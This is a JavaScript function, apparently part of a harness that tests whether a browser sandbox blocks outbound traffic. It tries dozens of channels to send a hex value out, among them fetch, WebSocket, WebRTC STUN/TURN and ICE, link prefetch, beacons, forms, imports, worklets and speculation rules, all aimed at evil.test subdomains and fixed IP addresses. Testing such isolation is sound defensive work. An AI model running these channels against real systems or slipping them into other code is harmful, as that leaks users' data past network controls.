// Tries every channel that a script has, in the context where it runs. `hex` is the text to send out, and `port` is the
// first of its ports at addresses that need no name. `relayAlone` restricts it to the names of relays. It uses nothing
// from its surroundings, because its source is put into frames and workers.
function attack(place, hex, port, relayAlone) {
  const v4 = '44.128.66.6', v6 = '[3ffe:44:64::6]';
  const host = (way) => `${place}-${way}.${hex}.evil.test`;
  const tried = [];
  const way = (name, run) => {
    if (relayAlone && name !== 'relay') return;
    try { const going = run(); tried.push(name); if (going && going.catch) going.catch(() => {}); } catch (error) {}
  };
  const world = globalThis;
  way('transport', () => { new WebTransport(`https://${host('transport')}/`).ready.catch(() => {}); });
  way('transport-v4', () => { new WebTransport(`https://${v4}:${port + 5}/`).ready.catch(() => {}); });
  way('fetch', () => { fetch(`https://${host('fetch')}/`, { mode: 'no-cors' }).catch(() => {}); });
  way('socket', () => { new WebSocket(`wss://${host('socket')}/`); });
  way('events', () => { new EventSource(`https://${host('events')}/`); });
  if (world.document) {
    const secret = { username: hex, credential: hex };
    way('relay', () => {
      const peer = new RTCPeerConnection({ iceServers: [
        { urls: `stun:${host('stun')}` },
        { urls: `turn:${host('turn-udp')}?transport=udp`, ...secret },
        { urls: `turn:${host('turn-tcp')}?transport=tcp`, ...secret },
        { urls: `turns:${host('turns')}?transport=tcp`, ...secret },
        { urls: `stun:${v4}:${port}` },
        { urls: `stun:${v6}:${port + 1}` },
        { urls: `turn:${v4}:${port + 2}?transport=tcp`, ...secret },
      ] });
      peer.createDataChannel('x');
      return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
    });
    way('ice', () => {
      const [here, there] = [new RTCPeerConnection(), new RTCPeerConnection()];
      here.createDataChannel('x');
      return (async () => {
        await here.setLocalDescription(await here.createOffer());
        await there.setRemoteDescription(here.localDescription);
        await there.setLocalDescription(await there.createAnswer());
        await here.setRemoteDescription({ type: 'answer', sdp: there.localDescription.sdp.replace(/a=candidate.*\r\n/g, '') });
        for (const to of [`${v4} ${port + 3}`, `${v6.slice(1, -1)} ${port + 4}`, `${place}-local-${hex}.local ${port + 3}`]) {
          const candidate = `candidate:1 1 udp 2122260223 ${to} typ host`;
          await here.addIceCandidate({ candidate, sdpMid: '0', sdpMLineIndex: 0 });
        }
      })();
    });
    const element = (name, attributes) => {
      const it = Object.assign(document.createElement(name), attributes);
      (document.body || document.documentElement).append(it);
      return it;
    };
    for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'stylesheet', 'icon', 'manifest', 'modulepreload']) {
      way(rel, () => { (document.head || document.documentElement).append(Object.assign(document.createElement('link'), { rel, href: `https://${host(rel)}/x` })); });
    }
    way('preload', () => { element('link', { rel: 'preload', as: 'image', href: `https://${host('preload')}/x` }); });
    way('img', () => { new Image().src = `https://${host('img')}/`; });
    way('script', () => { element('script', { src: `https://${host('script')}/` }); });
    way('frame', () => { element('iframe', { src: `https://${host('frame')}/` }); });
    way('video', () => { element('video', { src: `https://${host('video')}/` }); });
    way('object', () => { element('object', { data: `https://${host('object')}/` }); });
    way('font', () => { new FontFace('f', `url(https://${host('font')}/)`).load().catch(() => {}); });
    way('beacon', () => { navigator.sendBeacon(`https://${host('beacon')}/`, hex); });
    way('ping', () => { const link = element('a', { href: '#', ping: `https://${host('ping')}/` }); link.click(); });
    way('form', () => {
      element('iframe', { name: 'sink' });
      element('form', { action: `https://${host('form')}/`, method: 'post', target: 'sink' }).submit();
    });
    way('embed', () => { element('embed', { src: `https://${host('embed')}/` }); });
    way('poster', () => { element('video', { poster: `https://${host('poster')}/` }); });
    way('import', () => import(`https://${host('import')}/x.js`));
    way('css-import', () => { element('style', { textContent: `@import url(https://${host('css-import')}/);` }); });
    way('worklet', () => new AudioContext().audioWorklet.addModule(`https://${host('worklet')}/x.js`));
    way('paint', () => CSS.paintWorklet.addModule(`https://${host('paint')}/x.js`));
    way('search', () => { element('link', { rel: 'search', type: 'application/opensearchdescription+xml', href: `https://${host('search')}/x` }); });
    way('identity', () => navigator.credentials.get({ identity: { providers: [{ configURL: `https://${host('identity')}/x.json`, clientId: '1' }] } }));
    way('payment', () => {
      const total = { label: 'x', amount: { currency: 'USD', value: '1' } };
      return new PaymentRequest([{ supportedMethods: `https://${host('payment')}/pay` }], { total }).canMakePayment();
    });
    way('passkey', () => navigator.credentials.get({ publicKey: { rpId: host('passkey'), challenge: new Uint8Array(16) } }));
    way('prerender', () => {
      const rules = { prerender: [{ source: 'list', urls: [`https://${host('prerender')}/`] }] };
      element('script', { type: 'speculationrules', textContent: JSON.stringify(rules) });
    });
    way('rules', () => {
      const rules = { prefetch: [{ source: 'list', urls: [`https://${host('rules')}/`] }] };
      element('script', { type: 'speculationrules', textContent: JSON.stringify(rules) });
    });
  }
  if (world.importScripts) way('import-scripts', () => { importScripts(`https://${host('import-scripts')}/x.js`); });
  return tried;
}
